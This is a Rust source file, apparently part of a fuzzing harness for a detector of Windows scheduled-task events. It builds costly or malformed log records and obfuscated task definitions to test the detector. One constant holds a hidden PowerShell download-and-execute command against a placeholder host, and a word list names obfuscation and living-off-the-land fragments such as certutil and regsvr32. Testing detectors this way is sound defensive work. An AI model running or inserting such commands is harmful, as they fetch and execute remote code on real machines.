//! Records that are small to ship and costly to read: a recipe says which words stand in which part of a task, and
//! how often.

use crate::inputs::mutations::Mutations;
pub use schtag_properties::fuel::{PARTS, Part, allowed, exec, record};

/// An action that the default rules report by itself.
pub const PLAIN: (&str, &str) = ("powershell.exe", "-nop -w hidden iex(iwr http://x.example/a)");

/// The most characters of a definition that Windows logs, about.
pub const LOGGED: usize = 3_400;

/// Words that some step looks for, or that make it look again.
pub const WORDS: [&str; 104] = [
    "a",
    "ab",
    "b",
    " ",
    "\"",
    "'",
    "`",
    "^",
    "%",
    "!",
    "&",
    "|",
    "<",
    ">",
    "(",
    ")",
    ";",
    ",",
    "\\",
    "/",
    ".",
    "=",
    "+",
    "-",
    "~",
    ":",
    "@",
    "$",
    "#",
    "{",
    "}",
    "[",
    "]",
    "0",
    "1",
    "%a%",
    "!x!",
    "!x:*a=!",
    "!x:a=b!",
    "!x:~1,1!",
    "%i",
    "%x:a=b%",
    "%windir%",
    "%PSModulePath:s=sss%",
    "set x=",
    "&set x=!x!!x!",
    "&set z=!x:*a=!",
    "for /L %i in (1,1,512) do ",
    "for /F %i in (a b) do ",
    "for %i in (a b c) do ",
    "call ",
    "if 1==1 ",
    "start ",
    "cmd /c ",
    "cmd /v:on /c ",
    "powershell ",
    "powershell -c ",
    "-enc ",
    "-EncodedCommand ",
    "pwsh -c ",
    "QQBBAEEA",
    "'SGVsbG8sIHdvcmxkISBIZWxsbw==',",
    "[Convert]::FromBase64String('SGVsbG8sIHdvcmxkIQ==')",
    "H4sIAAAAAAAA",
    "[char]97+",
    "[char[]](97,98)-join''",
    "'a'+",
    "('a')",
    ".Replace('a','bb')",
    "-replace 'a','bb' ",
    "-join('a','b')",
    "-split'a'",
    "'{0}{0}'-f'a'",
    "('{1}{0}'-f'a','b')",
    "[-1..-9]",
    "-bxor 1 ",
    "$x=",
    "iex ",
    "invoke-expression ",
    "gal i*x",
    "\\temp\\",
    "http://1.2.3.4/a ",
    "rundll32 ",
    "regsvr32 /s ",
    "certutil -urlcache ",
    "漢",
    "é",
    "\u{200b}",
    "\u{2013}",
    "\u{ff41}",
    "\u{202e}",
    "K",
    "&amp;",
    "&#x41;",
    "&foo;",
    "<a>",
    "</a>",
    "<a b='c'/>",
    "<![CDATA[a]]>",
    "<!--a-->",
    "<?a?>",
    "<Exec><Command>a</Command></Exec>",
    "<BootTrigger/>",
    "xmlns:t=\"x\" ",
];

/// Words in a part of a task.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recipe {
    /// Where they stand.
    pub part: Part,
    /// The words in order, each with how often it stands there.
    pub words: Vec<(String, usize)>,
    /// The number of times that all of them are repeated.
    pub times: usize,
}

impl Recipe {
    /// Repeats one word as often as it fits into `bytes`.
    pub fn of_word(part: Part, word: &str, bytes: usize) -> Self {
        let times = bytes.checked_div(word.len()).unwrap_or(0);
        Self { part, words: vec![(word.to_owned(), times)], times: 1 }
    }

    /// Makes a recipe by chance, of about this number of bytes.
    pub fn by_chance(chance: &mut Mutations, bytes: usize) -> Self {
        let part = chosen(&PARTS, chance).unwrap_or(Part::Description);
        let mut recipe = Self { part, words: Vec::new(), times: 1 };
        for _ in 0..=chance.below(6) {
            let word = chosen(&WORDS, chance).unwrap_or("a");
            let times = if chance.below(3) == 0 { chance.below(bytes / 8) } else { chance.below(4) };
            recipe.words.push((word.to_owned(), times.saturating_add(1)));
        }
        recipe.fit(bytes);
        recipe
    }

    /// Makes the same with a change, of at most this number of bytes.
    pub fn changed(&self, chance: &mut Mutations, bytes: usize) -> Self {
        let mut recipe = self.clone();
        let at = chance.below(recipe.words.len());
        match chance.below(6) {
            0 => {
                let word = chosen(&WORDS, chance).unwrap_or("a");
                recipe.words.insert(at, (word.to_owned(), chance.below(8).saturating_add(1)));
            }
            1 if recipe.words.len() > 1 => drop(recipe.words.remove(at)),
            2 => {
                if let Some((word, _)) = recipe.words.get_mut(at) {
                    *word = chosen(&WORDS, chance).unwrap_or("a").to_owned();
                }
            }
            3 => {
                if let Some((_, times)) = recipe.words.get_mut(at) {
                    *times = times.saturating_mul(chance.below(4)).saturating_add(chance.below(16)).max(1);
                }
            }
            4 => recipe.times = chance.below(bytes / 4).max(1),
            _ => recipe.part = chosen(&PARTS, chance).unwrap_or(recipe.part),
        }
        recipe.fit(bytes);
        recipe
    }

    /// Shortens it to at most this number of bytes.
    fn fit(&mut self, bytes: usize) {
        let length = |words: &[(String, usize)]| {
            words.iter().map(|(word, times)| word.len().saturating_mul(*times)).fold(0, usize::saturating_add)
        };
        while length(&self.words) > bytes {
            for (_, times) in &mut self.words {
                *times = times.div_ceil(2);
            }
            if self.words.iter().all(|(_, times)| *times == 1) {
                self.words.pop();
            }
        }
        let most = bytes.checked_div(length(&self.words)).unwrap_or(1);
        self.times = if self.times > 1 { self.times.min(most).max(1) } else { 1 };
    }

    /// The words.
    pub fn text(&self) -> String {
        let once: String = self.words.iter().map(|(word, times)| word.repeat(*times)).collect();
        once.repeat(self.times)
    }

    /// The definition with other actions before and after.
    pub fn definition(&self, before: &str, behind: &str) -> String {
        self.part.definition(&self.text(), before, behind)
    }

    /// The record, with no other action.
    pub fn record(&self) -> String {
        record(&self.definition("", ""))
    }
}

fn chosen<T: Copy>(list: &[T], chance: &mut Mutations) -> Option<T> {
    list.get(chance.below(list.len())).copied()
}

/// Records whose members are costly rather than their task, of about this number of bytes: a name and the record.
pub fn of_members(bytes: usize) -> Vec<(&'static str, String)> {
    let plain = record(&Part::Description.definition("", &exec(PLAIN.0, PLAIN.1), ""));
    let members = plain.strip_prefix('{').unwrap_or(&plain);
    let fill = |unit: &str| unit.repeat(bytes.checked_div(unit.len()).unwrap_or(0));
    let before = |start: String| format!("{{{start}{members}");
    let event = |rest: String| format!("{{\"EventID\":4698,\"Channel\":\"Security\",{rest}}}");
    let text = |text: String| serde_json::json!({ "log": text }).to_string();
    let half = bytes / 2;
    vec![
        ("a string of escapes", event(format!(r#""TaskName":"\\x","TaskContent":"{}""#, fill(r"\u0041")))),
        ("a string of line ends", event(format!(r#""TaskName":"\\x","TaskContent":"{}""#, fill(r"\n")))),
        ("a string of blanks", event(format!(r#""TaskName":"\\x","TaskContent":"{}""#, fill(" ")))),
        ("a string of references", event(format!(r#""TaskContent":"&lt;{}""#, fill("&amp;")))),
        ("a string of layers", event(format!(r#""TaskContent":"{}lt;""#, fill("&amp;amp;amp;")))),
        ("a string of quotes", event(format!(r#""TaskName":"\\\\x","TaskContent":"{}""#, fill(r#"\\\""#)))),
        ("a long name", before(format!(r#""x":1,"TaskName":"\\{}","#, fill("powershell")))),
        ("a long account", before(format!(r#""SubjectUserName":"{}","#, fill("admin")))),
        ("a long computer", before(format!(r#""Computer":"{}","#, fill("srv.")))),
        ("many members", before(fill(r#""k":1,"#))),
        ("many members with escapes", before(fill(r#""\u0061":1,"#))),
        ("many contents", before(fill(r#""TaskContent":"<Task>","#))),
        ("many names", before(fill(r#""TaskName":"\\a","#))),
        ("many ids", before(fill(r#""EventID":4698,"#))),
        ("many own members", format!("{{{}\"a\":1}}", fill(r#""schtag":1,"#))),
        ("deep arrays", before(format!("\"a\":{}{},", "[".repeat(half), "]".repeat(half)))),
        (
            "deep objects",
            before(format!(
                "\"winlog\":{}1{},",
                "{\"event_data\":".repeat(bytes / 16),
                "}".repeat(bytes / 16)
            )),
        ),
        ("an array of inserts", before(format!("\"StringInserts\":[{}\"b\"],", fill("\"a\",")))),
        (
            "an array of objects",
            before(format!("\"EventData\":[{}{{}}],", fill("{\"Name\":\"a\",\"Value\":1},"))),
        ),
        ("an array of numbers", before(format!("\"a\":[{}1],", fill("1,")))),
        ("another event with numbers", format!("{{\"EventID\":4624,\"a\":[{}1]}}", fill("1,"))),
        ("a record in a text", text(event(format!("\"x\":\"{}\"", fill(r#"\""#))))),
        ("a task in a text", text(before(fill(r#""k":1,"#)))),
        (
            "a list of types",
            format!(
                r#"{{"body":{{"kvlistValue":{{"values":[{}{{}}]}}}}}}"#,
                fill(r#"{"key":"event_id","value":{"intValue":"4698"}},"#)
            ),
        ),
        ("a message", event(format!(r#""Message":"{}""#, fill(r"\t a: \\b")))),
        (
            "event XML",
            text(format!(
                "<Event><System><EventID>4698</EventID></System><EventData>{}",
                fill("<Data Name='a'>&lt;")
            )),
        ),
        (
            "event XML of references",
            text(format!("<Event><System><EventID>4698</EventID></System><Data>{}", fill("&amp;lt;"))),
        ),
        ("CEF", text(format!("{CEF}{}", fill("a=")))),
        ("CEF with XML", text(format!("{CEF}msg=<{}", fill(" a=")))),
        ("control characters", format!("{{\"EventID\":4698,\"b\":\"{}\"}}", fill("\u{1}"))),
        ("broken escapes", format!("{{\"EventID\":4698,\"b\":\"{}\"}}", fill(r"\x41é"))),
        ("not a number", format!("{{\"EventID\":4698,\"b\":[{}1]}}", fill("nan,"))),
        ("open brackets", format!("{{\"EventID\":4698,\"b\":{}", fill("[{"))),
        ("no JSON", fill("\u{1}")),
    ]
}

const CEF: &str =
    "CEF:0|Microsoft|Windows|10|Microsoft-Windows-Security-Auditing:4698|A|Low|externalId=4698 TaskName=x ";
